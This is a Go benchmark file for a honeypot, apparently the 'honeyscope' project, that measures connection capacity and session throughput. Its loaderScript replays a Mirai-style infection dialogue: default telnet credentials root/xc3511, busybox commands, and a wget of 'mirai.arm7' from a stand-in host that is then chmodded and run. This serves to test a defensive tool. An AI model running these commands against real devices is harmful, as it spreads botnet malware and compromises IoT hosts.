package honeypot

import (
	"bufio"
	"bytes"
	"context"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/honeyscope/honeyscope/internal/config"
	"github.com/honeyscope/honeyscope/internal/daemon"
	"github.com/honeyscope/honeyscope/internal/session"
)

// vmRSS returns the process's resident set size in bytes (0 when unknown).
func vmRSS() float64 {
	f, err := os.Open("/proc/self/status")
	if err != nil {
		return 0
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if v, ok := strings.CutPrefix(sc.Text(), "VmRSS:"); ok {
			kb, _ := strconv.ParseFloat(strings.TrimSuffix(strings.TrimSpace(v), " kB"), 64)
			return kb * 1024
		}
	}
	return 0
}

// raiseNoFile raises RLIMIT_NOFILE to at least n (or skips).
func raiseNoFile(b testing.TB, n uint64) {
	var lim unix.Rlimit
	if err := unix.Getrlimit(unix.RLIMIT_NOFILE, &lim); err != nil {
		b.Skip(err)
	}
	if lim.Cur >= n {
		return
	}
	want := unix.Rlimit{Cur: n, Max: max(lim.Max, n)}
	if err := unix.Setrlimit(unix.RLIMIT_NOFILE, &want); err != nil {
		want.Max = lim.Max
		want.Cur = lim.Max
		if lim.Max < n || unix.Setrlimit(unix.RLIMIT_NOFILE, &want) != nil {
			b.Skipf("RLIMIT_NOFILE %d and cannot raise it to %d: %v", lim.Max, n, err)
		}
	}
}

func benchComponent(b testing.TB, cfg config.Honeypot, fs *fakeStore) *Component {
	c, err := New(daemon.NewReporter(nil), cfg, Dependencies{Store: fs})
	if err != nil {
		b.Fatal(err)
	}
	if err := c.Start(context.Background()); err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		c.Stop(ctx)
	})
	return c
}

func benchAddr(b testing.TB, c *Component, service string) string {
	for _, a := range c.Addrs() {
		if a.Service == service {
			return a.Addr.String()
		}
	}
	b.Fatalf("no %s listener", service)
	return ""
}

// expect reads from r until s has been seen.
func expect(r *bufio.Reader, s string) error {
	var seen []byte
	want := []byte(s)
	for !bytes.HasSuffix(seen, want) {
		c, err := r.ReadByte()
		if err != nil {
			return err
		}
		seen = append(seen, c)
		if len(seen) > 4096 {
			seen = seen[len(seen)-len(s):]
		}
	}
	return nil
}

// loaderScript is a Mirai-style loader's dialogue after login.
var loaderScript = []string{
	"enable", "shell", "sh", "/bin/busybox ECCHI",
	"/bin/busybox ps; /bin/busybox ECCHI",
	"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
	"cd /tmp/; >.t && cd /tmp/; >dvrHelper && cd /tmp/; /bin/busybox ECCHI",
	"/bin/busybox cat /bin/echo; /bin/busybox ECCHI",
	`/bin/busybox echo -ne '\x7f\x45\x4c\x46\x01\x01\x01\x00' > .s; /bin/busybox ECCHI`,
	`/bin/busybox echo -ne '\x00\x00\x00\x00\x00\x00\x00\x00' >> .s; /bin/busybox ECCHI`,
	"/bin/busybox wget http://198.51.100.7/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
	"./dvrHelper telnet.arm7; /bin/busybox ECCHI",
}

// loaderSession runs one scripted loader session against a telnet address.
func loaderSession(addr string) error {
	c, err := net.DialTimeout("tcp", addr, 10*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(30 * time.Second))
	r := bufio.NewReader(c)
	if err := expect(r, "login: "); err != nil {
		return err
	}
	c.Write([]byte("root\r\n"))
	if err := expect(r, "Password: "); err != nil {
		return err
	}
	c.Write([]byte("xc3511\r\n"))
	if err := expect(r, "# "); err != nil {
		return err
	}
	for _, line := range loaderScript {
		if _, err := c.Write([]byte(line + "\r\n")); err != nil {
			return err
		}
		if err := expect(r, "# "); err != nil {
			return err
		}
	}
	c.Write([]byte("exit\r\n"))
	_, err = r.ReadByte() // wait for the server to end the session
	if err != nil && !strings.Contains(err.Error(), "EOF") && !strings.Contains(err.Error(), "reset") {
		return err
	}
	return nil
}

// TestIdleClientsChild is the client side of BenchmarkIdleConnections,
// run in a child process (its own descriptor limit, its memory not counted):
// it opens the connections, says "ready" and holds them until stdin closes.
func TestIdleClientsChild(t *testing.T) {
	spec := os.Getenv("HONEYSCOPE_IDLE_CLIENTS")
	if spec == "" {
		t.Skip("run by BenchmarkIdleConnections")
	}
	addr, ns, _ := strings.Cut(spec, ",")
	n, _ := strconv.Atoi(ns)
	raiseNoFile(t, uint64(n)+256)
	conns := make([]net.Conn, 0, n)
	for i := range n {
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, byte(1+i/250), byte(1+i%250))}}
		k, err := d.Dial("tcp", addr)
		if err != nil {
			os.Stdout.WriteString("error " + err.Error() + "\n")
			os.Exit(1)
		}
		conns = append(conns, k)
	}
	os.Stdout.WriteString("ready\n")
	io.Copy(io.Discard, os.Stdin)
	for _, k := range conns {
		k.Close()
	}
	os.Exit(0)
}

// BenchmarkIdleConnections holds 10,000 idle connections open on the
// generic listener (from a child process) and measures a scripted loader
// session served meanwhile; it reports the server process's RSS. Skipped
// with -short; run it by name:
//
//	go test -run '^$' -bench IdleConnections ./internal/honeypot/
func BenchmarkIdleConnections(b *testing.B) {
	if testing.Short() {
		b.Skip("10,000 connections")
	}
	const idle = 10000
	raiseNoFile(b, idle+1024)
	cfg := testConfig()
	cfg.Credentials = config.Credentials{Policy: "mirai"}
	cfg.Generic.Ports = []uint16{0}
	cfg.Limits.Connections = 2 * idle
	cfg.Limits.PerSource = idle
	cfg.Limits.Idle = 30 * time.Minute
	cfg.Limits.Session = time.Hour
	fs := &fakeStore{}
	c := benchComponent(b, cfg, fs)
	gen := benchAddr(b, c, session.Generic)
	child := exec.Command(os.Args[0], "-test.run=^TestIdleClientsChild$")
	child.Env = append(os.Environ(), "HONEYSCOPE_IDLE_CLIENTS="+gen+","+strconv.Itoa(idle))
	stdin, err := child.StdinPipe()
	if err != nil {
		b.Fatal(err)
	}
	stdout, err := child.StdoutPipe()
	if err != nil {
		b.Fatal(err)
	}
	if err := child.Start(); err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { stdin.Close(); child.Wait() })
	line, err := bufio.NewReader(stdout).ReadString('\n')
	if err != nil || line != "ready\n" {
		b.Fatalf("client process: %q %v", line, err)
	}
	for deadline := time.Now().Add(time.Minute); openSessions(c) < idle; {
		if time.Now().After(deadline) {
			b.Fatalf("%d of %d sessions open", openSessions(c), idle)
		}
		time.Sleep(10 * time.Millisecond)
	}
	rss := vmRSS()
	tel := benchAddr(b, c, session.Telnet)
	b.ResetTimer()
	for range b.N {
		if err := loaderSession(tel); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	b.ReportMetric(float64(openSessions(c)), "open-sessions")
	b.ReportMetric(max(rss, vmRSS())/(1<<20), "RSS-MiB")
}

// BenchmarkLoaderSessions runs scripted loader sessions through the whole
// component (listener, limits, telnet, shell, hub, committer) with 200
// clients at once, and checks that every session reaches the store.
func BenchmarkLoaderSessions(b *testing.B) {
	raiseNoFile(b, 4096)
	cfg := testConfig()
	cfg.Credentials = config.Credentials{Policy: "mirai"}
	cfg.Limits.PerSource = 1000
	cfg.CommitInterval = 200 * time.Millisecond
	fs := &fakeStore{}
	c := benchComponent(b, cfg, fs)
	addr := benchAddr(b, c, session.Telnet)
	var failed atomic.Int64
	b.SetParallelism(100) // 200 clients on two cores
	b.ResetTimer()
	t0 := time.Now()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			if err := loaderSession(addr); err != nil {
				failed.Add(1)
			}
		}
	})
	el := time.Since(t0)
	b.StopTimer()
	if n := failed.Load(); n > 0 {
		b.Fatalf("%d sessions failed", n)
	}
	for deadline := time.Now().Add(30 * time.Second); openSessions(c) > 0; {
		if time.Now().After(deadline) {
			b.Fatal("sessions still open")
		}
		time.Sleep(time.Millisecond)
	}
	if err := c.Commit(context.Background()); err != nil {
		b.Fatal(err)
	}
	finished := map[string]bool{}
	for _, bt := range fs.all() {
		for _, s := range bt.Sessions {
			if !s.End.IsZero() {
				finished[s.ID] = true
			}
		}
	}
	if len(finished) != b.N {
		b.Fatalf("%d sessions in the store, %d run", len(finished), b.N)
	}
	b.ReportMetric(float64(b.N)/el.Seconds(), "sessions/s")
}
